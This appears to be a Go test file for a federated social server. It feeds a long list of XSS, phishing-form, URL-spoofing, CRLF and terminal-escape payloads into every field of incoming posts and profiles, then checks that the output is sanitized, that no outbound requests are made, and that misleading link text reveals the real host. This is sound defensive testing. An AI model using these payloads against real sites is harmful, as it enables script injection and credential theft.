package node_test

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/dunnock-server/dunnock/federation"
	"github.com/dunnock-server/dunnock/federation/control"
)

// tricks are pieces of text that became something else on other servers.
var tricks = []string{
	`<script>alert(1)</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`,
	`<form action="https://evil.example/"><input type=password name=p><button>Sign in</button></form>`, `<button formaction=javascript:alert(1)>x`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data=x.swf><embed src=x>`, `<base href=https://evil.example/>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<style>*{display:none}</style>`, `<link rel=stylesheet href=//evil.example/x.css>`,
	`<a href="javascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", `<a href="&#106;avascript&colon;alert(1)">x</a>`, `<a href=vbscript:x>x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href='https://evil.example/&#39;onmouseover=&#39;alert(1)'>x</a>`, `<a href=//evil.example/>x</a>`,
	`<p class="x' onclick='alert(1)" style="position:fixed;inset:0">x</p>`, `<b onmouseover=alert(1)>x</b>`, `</p></div></li></ol></body><footer>pose</footer>`,
	`' onmouseover='alert(1)`, `" onmouseover="alert(1)`, `'><script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, "`${alert(1)}`", `{{.}}<%= 1 %>`,
	`javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `https://evil.example/'onmouseover='alert(1)`, `https://evil.example/"><script>`,
	`https://bank.example@evil.example/`, `https://evil.example/` + "\x00", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
	"\x1b]0;pwned\x07\x1b[2J\u009b31m", "\u202eecila\u202c\u2066", "a\r\nSet-Cookie: x=y", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<xmp><script>alert(1)</script></xmp>`,
}

// hostileFields puts every trick into every field that is shown, and looks at what the owner sees.
func hostileFields(t *testing.T) {
	s := newSiege(t)
	fay, mine := s.friend(), &control.ID{}
	s.must("post", control.NewPost{Text: "mine"}, mine)
	requests, dials := s.during(func() {
		for i, trick := range tricks {
			if trick = strings.ReplaceAll(trick, "\x00", ""); trick != tricks[i] {
				trick += "\u0001" // a document that holds U+0000 is refused as a whole
			}
			link := obj{"type": "Link", "mediaType": "text/html", "href": trick}
			image := obj{"type": "Image", "url": trick, "mediaType": trick, "name": trick, "blurhash": trick, "summary": trick}
			words := obj{"content": trick, "summary": trick, "name": trick, "url": []any{trick, link}, "attachment": []any{image, merge(image, obj{"url": "https://e.example/"})},
				"tag": []any{obj{"type": "Hashtag", "name": "#" + trick, "href": trick}, obj{"type": "Mention", "name": "@" + trick, "href": trick},
					obj{"type": "Hashtag", "name": "#x", "href": trick}, obj{"type": "Mention", "name": "@" + trick, "href": s.owner},
					obj{"type": "Emoji", "name": trick, "icon": obj{"url": trick}}, obj{"type": "Emoji", "name": ":x:", "icon": obj{"url": trick}}},
				"contentMap": obj{trick: trick}, "mediaType": "text/html", "inReplyTo": trick, "quote": trick, "context": trick, "conversation": trick}
			option := []any{obj{"type": "Note", "name": trick}, obj{"type": "Note", "name": "b" + trick}}
			for j, kind := range []obj{{"type": "Note"}, {"type": "Article"}, {"type": "Question", "oneOf": option}, {"type": "Note", "mediaType": "text/plain"}, {"type": "Video", "sensitive": true}} {
				fay.post(fay.act("Create", fay.note(fmt.Sprintf("%d-%d", i, j), "", words, kind)))
			}
			fay.post(fay.act("Create", fay.note("", "x", obj{"id": fay.url("/notes/" + trick), "inReplyTo": s.owner + "/posts/" + mine.ID})))
			fay.post(fay.act("Create", fay.note(fmt.Sprint(i), "", words, obj{"inReplyTo": nil, "quote": nil})))
			fay.post(fay.act("Update", merge(fay.doc, obj{"name": trick, "summary": trick, "url": trick, "icon": image, "image": image, "tag": words["tag"],
				"attachment": []any{obj{"type": "PropertyValue", "name": trick, "value": trick}}, "alsoKnownAs": trick, "movedTo": trick})))
			fay.post(fay.act("EmojiReact", "http://"+home+"/users/alice/posts/"+mine.ID, obj{"content": trick}))
			fay.post(fay.act("Flag", s.owner, obj{"content": trick}))
			s.settle()
			var person control.Found
			s.must("lookup", control.What{What: fay.uri}, &person)
			s.shown(trick, person)
		}
	})
	if len(requests)+len(dials) > 0 {
		t.Errorf("the node asked %q and dialled %q", requests, dials)
	}
	for _, p := range s.timeline() {
		s.shown("", p)
		var thread control.Posts
		s.must("thread", control.ID{ID: p.ID}, &thread)
		s.shown("", thread)
	}
	if n := len(s.timeline()); n < len(tricks) {
		t.Errorf("the timeline shows %d posts: less than one for each trick", n)
	}
	var told control.Notifications
	s.must("notifications", control.Page{Limit: 200}, &told)
	s.shown("", told)
	// What is kept, and shown by none of these.
	for _, column := range []string{"tags FROM posts", "attachments FROM posts", "options FROM polls", "fields FROM actors", "emoji FROM actors"} {
		kept := s.query("SELECT " + column)
		for _, line := range kept {
			if _, list, _ := strings.Cut(line, "="); strings.HasPrefix(list, "[") {
				s.shown(column, json.RawMessage(list))
			}
		}
		if len(kept) == 0 {
			t.Errorf("there are no %s", column)
		}
	}
	for column, as := range map[string]string{"url FROM actors": "url", "avatar FROM actors": "url", "header FROM actors": "url", "url FROM posts": "url",
		"quote FROM posts": "uri", "in_reply_to FROM posts": "uri", "moved_to FROM actors": "uri"} {
		for _, line := range s.query("SELECT " + column) {
			_, value, _ := strings.Cut(line, "=")
			s.shown(column, obj{as: value})
		}
	}
}

// timeline is all that the owner sees there.
func (s *siege) timeline() (posts []federation.Post) {
	s.Helper()
	for page := (control.Posts{}); ; {
		before := page.Next
		page = control.Posts{}
		s.must("timeline", control.Page{Limit: 200, Before: before}, &page)
		if posts = append(posts, page.Posts...); page.Next == "" {
			return posts
		}
	}
}

// shown looks over everything that the owner is shown.
func (s *siege) shown(trick string, result any) {
	s.Helper()
	data, err := json.Marshal(result)
	if err != nil {
		s.Fatal(err)
	}
	var value any
	if err := json.Unmarshal(data, &value); err != nil {
		s.Fatal(err)
	}
	walk("", value, func(field, text string) {
		var err error
		switch strings.ToLower(field) {
		case "content":
			err = harmless(text)
		case "url":
			if text != "" && !address.MatchString(text) {
				err = fmt.Errorf("no address")
			}
		case "uri", "href", "in_reply_to", "quote", "object", "actor":
			if text != "" && !name.MatchString(text) {
				err = fmt.Errorf("no name of anything")
			}
		case "text", "summary", "value": // the plain form of HTML: what was written as "&lt;" reads "<"
		default:
			if tag.MatchString(text) {
				err = fmt.Errorf("it could start a tag")
			}
		}
		if err == nil && strings.ContainsFunc(text, func(r rune) bool {
			return unicode.IsControl(r) && r != '\n' && r != '\t' || 0x202a <= r && r <= 0x202e
		}) {
			err = fmt.Errorf("it holds what is no letter")
		}
		if err != nil {
			s.Errorf("%q is shown as %s %q: %v", trick, field, text, err)
		}
	})
}

var (
	address = regexp.MustCompile("^https?://[^\\s\"'<>\\\\`]+$")
	name    = regexp.MustCompile("^https?://[^\\s\"<>\\\\`]+$") // an id, which stays as it is spelled
	tag     = regexp.MustCompile(`<[A-Za-z/!?]`)
)

// harmless is an error unless HTML is of a few elements without attributes of any consequence, and closes nothing around it.
func harmless(content string) error {
	elements := strings.Fields("p blockquote pre ul ol li br a span code em strong b i u s del ruby rt rp")
	page := "<ol><li><div>" + content + "</div></li><li>next</li></ol><footer></footer>"
	nodes, err := html.ParseFragment(strings.NewReader(page), &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body})
	if err != nil {
		return err
	}
	if len(nodes) != 2 || nodes[0].Data != "ol" || nodes[1].Data != "footer" || nodes[1].FirstChild != nil || nodes[0].LastChild.FirstChild.Data != "next" {
		return fmt.Errorf("it breaks out of its place")
	}
	for n := range nodes[0].FirstChild.FirstChild.Descendants() {
		switch {
		case n.Type == html.TextNode:
			continue
		case n.Type != html.ElementNode || n.Namespace != "" || !slices.Contains(elements, n.Data):
			return fmt.Errorf("it has a %s", n.Data)
		}
		for _, a := range n.Attr {
			if a.Key != "class" && a.Key != "rel" && (a.Key != "href" || n.Data != "a" || !address.MatchString(a.Val)) {
				return fmt.Errorf("it has %s=%q", a.Key, a.Val)
			}
		}
	}
	return nil
}

// hiddenHosts: a link whose text names another host than its own, or hides it, says where it leads.
func hiddenHosts(t *testing.T) {
	s := newSiege(t)
	fay := s.friend()
	const evil = "https://evil.example/login"
	for i, c := range []struct{ content, shows string }{
		{`<a href="` + evil + `">https://bank.example/</a>`, "[evil.example]"},
		{`<a href="` + evil + `">bank.example</a>`, "[evil.example]"},
		{`<a href="` + evil + `">@alice@bank.example</a>`, "[evil.example]"},
		{`<a href="` + evil + `">bank<b>.</b>example</a>`, "[evil.example]"},
		{`<a href="` + evil + `">bank。example</a>`, "[evil.example]"},
		{"<a href=\"" + evil + "\">bank\u200b.exam\u2060ple</a>", "[evil.example]"},
		{"<a href=\"" + evil + "\">\u202eelpmaxe.knab</a>", "[evil.example]"},
		{`<a href="` + evil + `"></a>`, "[evil.example]"},
		{`<a href="` + evil + `"><span class="invisible">https://evil.example/?</span>bank.example</a>`, "[evil.example]"},
		{`<a href="` + evil + `">bank.example<span class="invisible">.evil.example</span></a>`, "[evil.example]"},
		{`<a href="https://xn--bnk-7cd.example/">bank.example</a>`, "[xn--bnk-7cd.example]"},
		{`<a href="https://bank.example.evil.example/">bank.example</a>`, "[bank.example.evil.example]"},
		{`<a href="https://bank.example@evil.example/">bank.example</a>`, "bank.example"}, // no link at all
		{`<a href="https://bank.example/x">bank.example</a>`, "bank.example"},
		{`<a href="` + evil + `">read this</a>`, "read this"},
	} {
		name := fmt.Sprint(i)
		fay.take(fay.act("Create", fay.note(name, "", obj{"content": "<p>" + c.content + "</p>"})))
		var thread control.Posts
		s.must("thread", control.ID{ID: fay.url("/notes/" + name)}, &thread)
		if p := thread.Posts[0]; !strings.HasSuffix(p.Text, c.shows) || !strings.Contains(p.Content, c.shows) || c.shows == "bank.example" && strings.Contains(p.Content, "evil") {
			t.Errorf("%s is shown as %q, %s", c.content, p.Text, p.Content)
		}
	}
}
